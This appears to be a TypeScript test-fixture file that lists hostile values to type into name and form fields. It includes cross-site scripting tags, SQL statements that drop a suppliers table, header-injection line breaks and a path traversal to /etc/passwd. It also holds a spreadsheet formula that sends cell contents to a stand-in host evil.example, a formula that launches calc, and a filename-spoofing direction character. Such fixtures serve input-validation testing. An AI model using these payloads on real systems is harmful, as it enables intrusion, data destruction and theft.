/** What is put where a person would type a name: each of them has broken some program. */

/** Would be a tag of the page where it is not escaped. */
export const TAG = "<qzscript";
export const SCRIPT = `"'>${TAG}>alert(1)</qzscript><img src=x onerror=alert(1)>`;
/** Would be a header of the answer where a line break gets through. */
export const HEADER = "X-Qzinjected";

/** One of everything, for each field by itself. */
export const ALL_IN_ONE = `${SCRIPT}' OR '1'='1'; DROP TABLE suppliers;--\r\n${HEADER}: 1\r\n\u0000\u202e{{7*7}}\${7*7}%0d%0a../../etc/passwd`;

/** For all fields at once. */
export const ODD_VALUES: Readonly<Record<string, string>> = {
  nothing: "",
  spaces: " \t\u00a0\u2003 ",
  "a statement": "1'); DROP TABLE suppliers; --",
  "a tag": SCRIPT,
  "a formula": `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a sum": "-2+3",
  "a tab and a formula": "\t=1+1",
  "a line break and a header": `x\r\n${HEADER}: 1\r\n\r\n${TAG}>`,
  "empty bytes": "a\u0000b\u0000",
  "half a letter": "\ud800x",
  "a name of the language": "__proto__",
  "another name of the language": "constructor",
  "a path upwards": "../../../../etc/passwd\u0000.csv",
  "a number beyond all": "1e999",
  "a number below zero": "-1",
  "not a number": "NaN",
  "a large whole number": "99999999999999999999999999",
  "a day that is none": "2026-02-31",
  "a year beyond all": "+275760-09-14",
  "a list": "[1,2,{}]",
  "many letters": "x".repeat(20_000),
  "many letters that cost": `${"a".repeat(5_000)}!`,
  "letters on letters": `Z${"\u0351".repeat(3_000)}`,
  "another direction": "\u202egpj.exe\u2066",
};
